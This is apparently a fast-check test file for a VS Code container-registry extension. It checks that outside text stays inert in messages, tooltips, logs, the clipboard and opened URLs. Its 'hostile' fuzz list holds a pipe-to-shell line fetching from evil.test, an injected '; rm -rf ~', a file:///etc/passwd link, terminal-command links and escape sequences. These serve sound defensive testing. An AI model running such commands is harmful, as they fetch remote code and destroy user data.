import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import fc from 'fast-check';
import { unicodeString } from '../../../tools/unicodeString.ts';
import { TeaChestError } from '../../../../src/core/base/errors.ts';
import { plainText } from '../../../../src/core/base/plainText.ts';
import type { EngineImage } from '../../../../src/core/docker/types.ts';
import { isReferenceText } from '../../../../src/core/oci/imageReference.ts';
import type { ImagesSnapshot } from '../../../../src/core/push/imagesProgress.ts';
import type { PushSnapshot } from '../../../../src/core/push/pushProgress.ts';
import { toRejection } from '../../../../src/host/commands/toRejection.ts';
import { certificateQuestion } from '../../../../src/host/connections/certificateQuestion.ts';
import { inertText } from '../../../../src/host/display/inertText.ts';
import { markdownText, markdownValue } from '../../../../src/host/display/markdownText.ts';
import { choiceRows } from '../../../../src/host/input/choiceRows.ts';
import { createLogger } from '../../../../src/host/log.ts';
import type { PushRunner } from '../../../../src/host/push/pushRunner.ts';
import { buildImageTree } from '../../../../src/host/views/images/imageTree.ts';
import { imageTooltip } from '../../../../src/host/views/images/imageTooltip.ts';
import {
  connectionNode,
  nodePage,
  nodeReference,
  noteNode,
  ownerNode,
  type RegistryNode,
} from '../../../../src/host/views/registries/registryTree.ts';
import { engineImage } from '../../../tools/engineImage.ts';
import { fuzzCases } from '../../../tools/fuzzCases.ts';
import { QuickInput, takeShown, useFakeVscode, type Shown } from '../support/fakeVscode.ts';
import { connectionTo } from '../support/hostFakes.ts';
import { described, namedNodes } from '../support/namedNodes.ts';

useFakeVscode();
const messages = await import('../../../../src/host/display/messages.ts');
const tree = await import('../../../../src/host/display/treeItem.ts');
const clipboard = await import('../../../../src/host/display/clipboard.ts');
const browser = await import('../../../../src/host/openInBrowser.ts');
const prompts = await import('../../../../src/host/input/prompts.ts');
const images = await import('../../../../src/host/views/images/imageItem.ts');
const registries = await import('../../../../src/host/views/registries/registryItem.ts');
const failures = await import('../../../../src/host/errors/reportFailure.ts');
const statusBar = await import('../../../../src/host/push/pushStatusBar.ts');

/** As VS Code finds links in messages, prompts and validation (src/vs/base/common/linkedText.ts). */
const link = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
/** As it finds icons in labels (src/vs/base/common/iconLabels.ts). */
const icon = /\$\([A-Za-z0-9-]+(?:~[A-Za-z]+)?\)/;
const unseen = /[\p{Cc}\p{Cf}\p{Cs}\p{Default_Ignorable_Code_Point}\u2028\u2029]/u;

const hostile = [
  '[Fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D)',
  '[docs](https://evil.test "title")',
  '[file](file:///etc/passwd)',
  '![x](https://evil.test/pixel.png)',
  '<img src="https://evil.test/pixel.png">',
  '<a href="command:workbench.action.quit">x</a>',
  'https://evil.test/path',
  'www.evil.test',
  '$(alert)',
  '$(sync~spin)',
  '\\$(bug)',
  '$(',
  '](',
  ']',
  '(command:a)',
  '[a',
  '`',
  '``',
  '**',
  '\n',
  '\r\n',
  '\n\n# heading\n',
  '\u0085',
  '\u2028',
  '\t',
  '\u0000',
  '\u001b[31m',
  '\u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007',
  '\u009b2J',
  '\u202e',
  '\u2066',
  '\u200b',
  '\ufeff',
  '\u{e0041}',
  '\ud800',
  '\udfff',
  '😀',
  'app:1',
  'dev',
  'sha256:',
  ' curl evil.test|sh #',
  '; rm -rf ~',
];

/** Text as a server, an engine or an image may give it. */
const outside = fc.oneof(
  fc.array(fc.oneof(fc.constantFrom(...hostile), unicodeString(8)), { maxLength: 12 }).map((parts) => parts.join('')),
  unicodeString(3000),
  fc.constantFrom(...hostile),
);

/** The one link that our messages have, at their end, with an error code of ours. */
const ownLink = / \[More About This\]\(command:teaChest\.showTroubleshooting\?%22[a-zA-Z]+%22\)$/;

function assertInert({ element, text: whole }: Shown): void {
  const text = element === 'error' ? whole.replace(ownLink, '') : whole;
  assert.doesNotMatch(text, link, `${element}: a link`);
  assert.doesNotMatch(text, unseen, `${element}: a character that is not seen`);
  assert.ok(text.length <= 1100, `${element}: ${text.length} characters`);
}

/** Besides, no icon but the one that is ours. */
function assertNoIcon(shown: Shown, ours: readonly string[] = []): void {
  const text = ours.reduce((rest, name) => rest.replace(new RegExp(`^\\$\\(${name}\\) `), ''), shown.text);
  assertInert(shown);
  assert.doesNotMatch(text, icon, `${shown.element}: an icon`);
}

/** Code spans are the only Markdown that a value from outside comes to. */
function assertOnlyCode(markdown: string, ours: RegExp): void {
  for (const line of markdown.split('  \n')) {
    const prose = line.replace(/`[^`]+`/g, '');
    assert.match(prose, ours, `Markdown: ${prose}`);
  }
  assert.doesNotMatch(markdown.replaceAll('  \n', ''), unseen);
}

async function check(work: (text: string) => unknown): Promise<void> {
  await fc.assert(
    fc.asyncProperty(outside, async (text) => {
      takeShown();
      await work(text);
    }),
    { numRuns: fuzzCases() },
  );
}

function imageOf(text: string): EngineImage {
  return engineImage({
    references: [text, `${text}:1`, 'app:1'],
    digestReferences: [`${text}@${text}`],
    createdAt: text,
    taggedAt: text,
    platforms: [{ os: text, architecture: text }],
    artifactType: text,
    usedBy: { running: 1, stopped: 1 },
    obstacle: text,
  });
}

suite('text from outside, whatever it is', () => {
  test('becomes one line of visible characters, and stays what it is if it is one', async () => {
    await check((text) => {
      const plain = plainText(text);
      assert.doesNotMatch(plain, unseen);
      assert.ok(plain.length <= 1000 && plain.trim() === plain);
      assert.equal(plainText(plain), plain);
      assert.equal(inertText(inertText(text)), inertText(text));
    });
    for (const text of ['denied: “quota exceeded” (2 GiB)', 'größer als 5 %', '日本語 😀', 'a [b] (c) $d']) {
      assert.equal(inertText(text), text);
    }
  });

  test('is cut in the middle, so that what to do next is still said', () => {
    const text = inertText(`The server said: ${'x'.repeat(5000)}. Try again.`);
    assert.equal(text.length, 1000);
    assert.match(text, /^The server said: x+…x+\. Try again\.$/);
  });

  test('is only text in messages and dialogs', async () => {
    await check(async (text) => {
      await messages.showError(text, [{ title: 'Retry' }]);
      await messages.showInformation(`${text} [x]`, []);
      await messages.showWarning(`[x]${text}`, []);
      await messages.askModal(text, ['Ours', text, `${text}(command:a)`], 'Yes');
      const shown = takeShown();
      assert.equal(
        shown.filter(({ element }) => element === 'warning.detail').length,
        3,
        'each line of a detail is one',
      );
      shown.forEach((one) => {
        assertNoIcon(one);
      });
    });
  });

  test('is only text in what a failure says, to a person and to a caller', async () => {
    await check(async (text) => {
      const error = new TeaChestError('registryRefused', `gitea.test refused: “${text}”`, { facts: { image: text } });
      await failures.reportFailure(error, {}, `Push of ${text} failed`);
      await failures.reportFailure(error, { retry: () => undefined });
      await failures.reportFailure(new Error(text), {});
      const shown = takeShown();
      assert.equal(shown.length, 3);
      shown.forEach((one) => {
        assertNoIcon(one);
      });
      assertNoIcon({ element: 'rejection', text: toRejection(error, 'upload').message });
    });
  });

  test('is only text in a question about a certificate', async () => {
    await check(async (text) => {
      const certificate = {
        subject: text,
        issuer: text,
        validFrom: text,
        validTo: text,
        names: [text],
        fingerprint256: 'ab'.repeat(32),
        problem: text,
      };
      const { message, detail } = certificateQuestion('gitea.test', certificate, 'cd'.repeat(32));
      await messages.askModal(message, detail, 'Trust');
      const lines = takeShown().filter(({ element }) => element === 'warning.detail');
      assert.equal(lines.length, detail.length, 'no line is added');
      lines.forEach((one) => {
        assertNoIcon(one);
      });
    });
  });

  test('is only text in prompts, what they say of an answer, and lists', async () => {
    await check(async (text) => {
      const position = { title: text, step: 1, totalSteps: 1 };
      const judged = [{ problem: text }, { notice: text }];
      const asked = prompts.askText(position, {
        prompt: text,
        placeholder: 'ours',
        problem: text,
        judge: () => judged.shift() ?? {},
      });
      QuickInput.latest?.type('a');
      QuickInput.latest?.type('b');
      QuickInput.latest?.leave();
      await assert.rejects(asked);
      const choices = [{ label: text, description: text, icon: 'history', value: text }];
      const chosen = prompts.askChoice(position, { placeholder: text, choices, custom: () => ({ problem: text }) });
      await new Promise(setImmediate);
      QuickInput.latest?.record();
      QuickInput.latest?.type('nothing has this');
      QuickInput.latest?.leave();
      await assert.rejects(chosen);
      await prompts.pickOne(choices, { title: text, placeholder: text });
      takeShown().forEach((one) => {
        assertNoIcon(one, ['history', 'error']);
      });
      for (const { label, description = '' } of choiceRows(choices, text.trim(), undefined)) {
        assertNoIcon({ element: 'row', text: label }, ['history']);
        assertNoIcon({ element: 'row', text: description });
      }
    });
  });

  test('is only text in the rows and tooltips of both trees', async () => {
    await check((text) => {
      const connection = connectionTo('https://gitea.test', { username: text, version: text });
      const error = new TeaChestError('registryFailed', text);
      const nodes: readonly RegistryNode[] = [
        connectionNode(connection),
        ownerNode(connection, text),
        ...namedNodes(connection, text),
        noteNode('parent', text),
        noteNode('parent', text, { error, connection }),
      ];
      const image = imageOf(text);
      const items = [
        ...buildImageTree([image], { showDangling: true })
          .flatMap((repository) => [repository, ...repository.tags])
          .map((node) => images.imageItem(node, () => ({}), 0)),
        ...nodes.map((node) => registries.registryItem(node, Date.now())),
        ...nodes.map((node) => registries.registryItem(node, Date.now(), { failure: error })),
        ...nodes.map((node) => registries.registryItem(node, Date.now(), described(text))),
        tree.treeItem({
          id: text,
          contextValue: 'ours',
          label: text,
          description: text,
          icon: 'ours',
          expandable: false,
          accessibleName: text,
          tooltip: text,
        }),
      ];
      for (const { label, description, tooltip, accessibilityInformation } of items) {
        for (const one of [label, description, accessibilityInformation?.label]) {
          assertNoIcon({ element: 'row', text: one as string });
        }
        if (typeof tooltip === 'string') assertNoIcon({ element: 'tooltip', text: tooltip });
        else if (tooltip !== undefined) {
          assert.deepEqual([tooltip.isTrusted, tooltip.supportHtml, tooltip.supportThemeIcons], [false, false, false]);
          assertOnlyCode(
            tooltip.value,
            /^(?:\*\*\*\*|Pushed: |Pushed: {2}by |Last push: |Linked to the repository |Digest: |Size: |Size of all images: |Platforms: |Not read: |)$/,
          );
        }
      }
      assertOnlyCode(
        markdownText(imageTooltip(text, image, undefined)),
        /^(?:\*\*\*\*|ID: |Created: |Size: 1 B \(1 bytes\)|Cannot be pushed: |Tagged: |Platform: |In use by: 1 running container, 1 stopped container|Also: (?:, )*)$/,
      );
      assertOnlyCode(markdownText([['Ours ', markdownValue(text)]]), /^Ours $/);
    });
  });

  test('is only text in the status bar', async () => {
    await check((text) => {
      const snapshot = { reference: text, enginePreparing: true } as PushSnapshot;
      const run: Partial<ImagesSnapshot> = { images: [{ snapshot, outcome: undefined }], enginePreparing: true };
      const runner: Pick<PushRunner, 'onProgress'> = {
        onProgress: (listener) => {
          listener([run as ImagesSnapshot]);
        },
      };
      new statusBar.PushStatusBar(runner);
      const shown = takeShown();
      // Its text, its name for a screen reader, and the two lines of its tooltip.
      assert.equal(shown.length, 4);
      shown.forEach((one) => {
        assertNoIcon(one, ['cloud-upload']);
      });
    });
  });

  test('is one line of the log', async () => {
    await check((text) => {
      const lines: string[] = [];
      const channel = { warn: (line: string) => void lines.push(line) };
      createLogger(channel as unknown as Parameters<typeof createLogger>[0]).warn(`gitea.test said: ${text}`);
      assert.equal(lines.length, 1);
      assert.doesNotMatch(lines[0] ?? '', unseen);
    });
  });

  test('reaches the clipboard only as references and IDs', async () => {
    await check(async (text) => {
      await clipboard.copyReferences([text, `gitea.test/dev/${text}`, `gitea.test/dev/app:${text}`]);
      await clipboard.copyPullCommand(`gitea.test/dev/${text}:1`);
      await clipboard.copyImageIds([text, `sha256:${text}`]);
      await clipboard.copyDigests([text, `sha256:${text}`]);
      for (const kind of ['podman', 'kubernetes', 'compose', 'dockerfile'] as const) {
        await clipboard.copyImageLine(kind, `gitea.test/dev/${text}:1`);
      }
      for (const { text: copied } of takeShown()) {
        for (const line of copied.split('\n')) {
          assert.match(line.replace(/^(?:(?:docker|podman) pull|image:|FROM) /, ''), /^[A-Za-z0-9][A-Za-z0-9./:_@-]*$/);
        }
      }
    });
  });

  test('names of a registry are pages of that registry, or open nothing', async () => {
    await check(async (text) => {
      const connection = connectionTo('https://gitea.test:3000');
      const nodes = namedNodes(connection, text);
      for (const node of [...nodes, ownerNode(connection, text)]) {
        const page = nodePage(node);
        if (page !== undefined) await browser.openInBrowser(page);
        const reference = nodeReference(node);
        if (reference !== undefined) assert.ok(isReferenceText(reference), reference);
      }
      for (const url of [text, `https://gitea.test:3000${text}`, `https://${text}@gitea.test:3000/`]) {
        await browser.openInBrowser({ url, root: connection.origin });
      }
      for (const { text: opened } of takeShown()) {
        assert.equal(new URL(opened).origin, 'https://gitea.test:3000');
        assert.doesNotMatch(opened, /[\s\p{Cc}]/u);
      }
    });
  });
});
